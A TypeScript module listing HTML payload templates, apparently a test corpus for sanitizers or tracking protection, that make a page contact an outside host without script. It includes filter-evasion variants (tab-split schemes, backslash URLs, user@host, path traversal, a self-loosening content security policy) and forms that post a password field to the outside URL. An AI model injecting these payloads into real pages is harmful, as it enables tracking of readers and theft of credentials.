import { family } from './payload.ts'

/** Elements that fetch from another host without a script, and so reveal who reads a page and when. */
export const FETCHING = family('fetch', {
  image: ({ url }) => `<img src="${url}.png" alt="">`,
  'image-without-scheme': ({ path }) => `<img src="//${path}.png" alt="">`,
  'image-backslashes': ({ path }) => `<img src="\\\\${path}.png" alt=""><img src="/\\${path}.gif" alt="">`,
  'image-tab-in-scheme': ({ path }) => `<img src="ht&Tab;tp://${path}.png" alt="">`,
  'image-with-user': ({ path }) => `<img src="http://127.0.0.1@${path}.png" alt="">`,
  'image-below-download': ({ path }) =>
    `<img src="/api/download/..//../..//${path}.png"><img src="//${path}/api/download/x.png">`,
  'image-set': ({ url }) => `<img srcset="${url}.png 1x, ${url}.gif 2x" sizes="9px" alt="">`,
  'image-lazy': ({ url }) => `<img loading=lazy decoding=async fetchpriority=high src="${url}.png" alt="">`,
  'image-with-cookies': ({ url }) => `<img crossorigin=use-credentials src="${url}.png" alt="">`,
  'image-report': ({ url }) =>
    `<img attributionsrc="${url}" src="x:" alt=""><a attributionsrc="${url}" href="#x">x</a>`,
  picture: ({ url }) => `<picture><source srcset="${url}.png"><img src="x:" alt=""></picture>`,
  video: ({ url }) => `<video src="${url}.mp4" autoplay muted></video>`,
  'video-poster': ({ url }) => `<video poster="${url}.png"></video>`,
  'video-source': ({ url }) => `<video preload=auto><source src="${url}.mp4" type="video/mp4"></video>`,
  'video-track': ({ url }) => `<video src="data:video/mp4;base64," ><track default src="${url}.vtt"></video>`,
  audio: ({ url }) => `<audio src="${url}.ogg" autoplay></audio>`,
  'input-image': ({ url }) => `<input type=image src="${url}.png" alt="">`,
  'body-background': ({ url }) => `<body background="${url}.png">`,
  'table-background': ({ url }) => `<table background="${url}.png"><tr><td background="${url}.gif">x</td></tr></table>`,
  frame: ({ url }) => `<iframe src="${url}.html"></iframe>`,
  object: ({ url }) => `<object data="${url}.html"></object>`,
  embed: ({ url }) => `<embed src="${url}.html">`,
  stylesheet: ({ url }) => `<link rel=stylesheet href="${url}.css">`,
  preload: ({ url }) => `<link rel=preload as=image href="${url}.png"><link rel=modulepreload href="${url}.js">`,
  prefetch: ({ url }) => `<link rel=prefetch href="${url}.html"><link rel=prerender href="${url}.htm">`,
  icon: ({ url }) => `<link rel=icon href="${url}.png"><link rel=manifest href="${url}.json">`,
  connect: ({ url }) => `<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}">`,
  base: ({ path }) => `<base href="//${path}/"><img src="relative.png" alt="">`,
  refresh: ({ url }) => `<meta http-equiv=refresh content="0;url=${url}.html">`,
  'refresh-spelling': ({ url }) => `<META HTTP-EQUIV="ReFresh" CONTENT="0 ,URL='${url}.html'">`,
  'own-policy': ({ url }) =>
    `<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${url}.png" alt="">`,
  'form-sent': ({ url }) => `<form action="${url}"><input name=q value=1><button>Continue</button></form>`,
  'form-posted': ({ url }) =>
    `<form method=post action="${url}"><input type=password name=p><input type=submit></form>`,
  'form-from-afar': ({ url }) =>
    `<form id=away></form><button form=away formaction="${url}" formmethod=post>Continue</button>`,
  'form-in-a-new-tab': ({ url }) => `<form target=_blank action="${url}"><button>Continue</button></form>`,
})
